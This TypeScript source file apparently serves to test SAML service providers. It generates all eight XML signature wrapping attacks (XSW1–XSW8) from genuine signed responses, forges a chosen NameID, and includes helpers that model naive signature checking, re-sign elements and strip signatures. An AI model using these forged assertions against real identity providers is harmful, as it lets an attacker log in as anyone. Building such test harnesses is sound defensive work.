/**
 * Attacks on a SAML service provider, made out of a real provider's real answer: the eight forms of XML signature
 * wrapping, with the signature kept whole and moved away from what is read. Refuses an answer without the signature that
 * it is to move. Source: Somorovsky, Mayer, Schwenk, Kampmann, Jensen, "On Breaking SAML: Be Whoever You Want to Be",
 * USENIX Security 2012; the numbering is that of the tools made after it.
 */
import { X509Certificate } from 'node:crypto'
import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { SignedXml } from 'xml-crypto'
import type { CertificateAndKey } from './certificates.ts'

const ds = 'http://www.w3.org/2000/09/xmldsig#'
const saml = 'urn:oasis:names:tc:SAML:2.0:assertion'
const samlp = 'urn:oasis:names:tc:SAML:2.0:protocol'

export interface Attack {
  readonly name: string
  readonly xml: string
}

/** Forms 1 and 2 need a signed response, the others a signed assertion. `subject` is whom the attacker wants to be. */
export function signatureWrappings(
  signedResponse: string,
  signedAssertion: string,
  subject: string,
): Attack[] {
  const ofResponse: Record<string, (parts: Parts) => Element> = {
    'XSW1: the signed response inside the signature of a forged one': ({ root, signature, forge }) => {
      const forged = forge(root)
      only(forged, ds, 'Signature').appendChild(without(root, signature))
      return forged
    },
    'XSW2: the signed response beside the signature in a forged one': ({ root, signature, forge }) => {
      const forged = forge(root)
      const its = only(forged, ds, 'Signature')
      forged.insertBefore(without(root, signature), its)
      return forged
    },
  }
  const ofAssertion: Record<string, (parts: Parts) => Element> = {
    'XSW3: a forged assertion before the signed one': ({ root, assertion, forge, signatureIn }) => {
      const forged = forge(assertion)
      forged.removeChild(signatureIn(forged))
      root.insertBefore(forged, assertion)
      return root
    },
    'XSW4: the signed assertion inside a forged one': ({ root, assertion, forge, signatureIn }) => {
      const forged = forge(assertion)
      forged.removeChild(signatureIn(forged))
      root.replaceChild(forged, assertion)
      forged.appendChild(assertion)
      return root
    },
    'XSW5: the signature in a forged assertion, the signed one at the end': ({
      root,
      assertion,
      signature,
      forge,
    }) => {
      const forged = forge(assertion)
      const original = without(assertion, signature)
      root.replaceChild(forged, assertion)
      root.appendChild(original)
      return root
    },
    'XSW6: the signed assertion inside the signature of a forged one': ({
      root,
      assertion,
      signature,
      forge,
      signatureIn,
    }) => {
      const forged = forge(assertion)
      signatureIn(forged).appendChild(without(assertion, signature))
      root.replaceChild(forged, assertion)
      return root
    },
    'XSW7: a forged assertion in Extensions before the signed one': ({
      root,
      assertion,
      forge,
      signatureIn,
      document,
    }) => {
      const extensions = document.createElementNS(samlp, 'samlp:Extensions')
      const forged = forge(assertion)
      forged.removeChild(signatureIn(forged))
      extensions.appendChild(forged)
      root.insertBefore(extensions, assertion)
      return root
    },
    'XSW8: the signed assertion in an Object of the signature of a forged one': ({
      root,
      assertion,
      signature,
      forge,
      signatureIn,
      document,
    }) => {
      const forged = forge(assertion)
      const object = document.createElementNS(ds, 'Object')
      object.appendChild(without(assertion, signature))
      signatureIn(forged).appendChild(object)
      root.replaceChild(forged, assertion)
      return root
    },
  }
  const build = (xml: string, forms: Record<string, (parts: Parts) => Element>): Attack[] =>
    Object.entries(forms).map(([name, form]) => ({
      name,
      xml: new XMLSerializer().serializeToString(form(partsOf(xml, subject))),
    }))
  return [...build(signedResponse, ofResponse), ...build(signedAssertion, ofAssertion)]
}

type Parts = {
  document: Document
  root: Element
  assertion: Element
  /** The signature that matters: the response's where it is signed, else the assertion's. */
  signature: Element
  /** A copy that says what the attacker wants, with an ID of its own. */
  forge(element: Element): Element
  signatureIn(element: Element): Element
}

function partsOf(xml: string, subject: string): Parts {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const root = document.documentElement
  const assertion = only(root, saml, 'Assertion')
  const signatureIn = (element: Element) => childNamed(element, ds, 'Signature')
  const signature = hasChild(root, ds, 'Signature') ? signatureIn(root) : signatureIn(assertion)
  return {
    document,
    root,
    assertion,
    signature,
    signatureIn,
    forge(element) {
      const copy = element.cloneNode(true) as Element
      copy.setAttribute('ID', '_forged')
      const inner = copy.getElementsByTagNameNS(saml, 'Assertion').item(0)
      inner?.setAttribute('ID', '_forged_inner')
      only(copy, saml, 'NameID').textContent = subject
      return copy
    },
  }
}

function without(element: Element, signature: Element): Element {
  const copy = element.cloneNode(true) as Element
  const index = [...children(element)].indexOf(signature)
  const its = children(copy)[index]
  if (!its) throw new Error('the signature is not a child of what it signs')
  copy.removeChild(its)
  return copy
}

function children(element: Element): Element[] {
  const found: Element[] = []
  for (let node = element.firstChild; node; node = node.nextSibling)
    if (node.nodeType === 1) found.push(node as Element)
  return found
}

function hasChild(element: Element, namespace: string, name: string): boolean {
  return children(element).some((child) => child.namespaceURI === namespace && child.localName === name)
}

function childNamed(element: Element, namespace: string, name: string): Element {
  const found = children(element).find(
    (child) => child.namespaceURI === namespace && child.localName === name,
  )
  if (!found) throw new Error(`no ${name} to attack`)
  return found
}

function only(element: Element, namespace: string, name: string): Element {
  const found = element.getElementsByTagNameNS(namespace, name).item(0)
  if (!found) throw new Error(`no ${name} to attack`)
  return found
}

/**
 * Whom careless service providers would let in: any good signature will do, and then the first name of the
 * document is read, or the one at the path where it should be. Empty where no signature is good.
 */
export function naiveSubjects(xml: string, certificate: string): string[] {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const signatures = document.getElementsByTagNameNS(ds, 'Signature')
  const isGood = Array.from({ length: signatures.length }, (_, index) => signatures.item(index)).some(
    (node) => (node ? isGoodSignature(xml, node, certificate) : false),
  )
  if (!isGood) return []
  const steps = ['Assertion', 'Subject', 'NameID']
  const byPath = steps.reduce<Element | undefined>(
    (element, step) => element && children(element).find(({ localName }) => localName === step),
    document.documentElement,
  )
  const first = only(document.documentElement, saml, 'NameID')
  return [first.textContent ?? '', byPath?.textContent ?? '']
}

function isGoodSignature(xml: string, node: Element, certificate: string): boolean {
  try {
    const signed = new SignedXml({ publicCert: certificate, getCertFromKeyInfo: () => null })
    signed.loadSignature(node)
    return signed.checkSignature(xml)
  } catch {
    return false
  }
}

/** `xml` with the element of `id` signed anew, as a provider that holds `pair` would, by any method. */
export function resign(
  xml: string,
  id: string,
  pair: CertificateAndKey,
  methods: { signature?: string; digest?: string; canonicalization?: string } = {},
): string {
  const canonicalization = methods.canonicalization ?? 'http://www.w3.org/2001/10/xml-exc-c14n#'
  const signed = new SignedXml({
    privateKey: pair.keyPem,
    publicCert: new X509Certificate(pair.certPem).toString(),
    signatureAlgorithm: methods.signature ?? 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: canonicalization as 'http://www.w3.org/2001/10/xml-exc-c14n#',
  })
  signed.addReference({
    xpath: `//*[@ID='${id}']`,
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', canonicalization],
    digestAlgorithm: methods.digest ?? 'http://www.w3.org/2001/04/xmlenc#sha256',
  })
  signed.computeSignature(xml, {
    location: { reference: `//*[@ID='${id}']`, action: 'append' },
  })
  return signed.getSignedXml()
}

/** `xml` without any signature. */
export function unsigned(xml: string): string {
  return xml.replace(/<(\w+:)?Signature[ >][\s\S]*?<\/(\w+:)?Signature>/g, '')
}
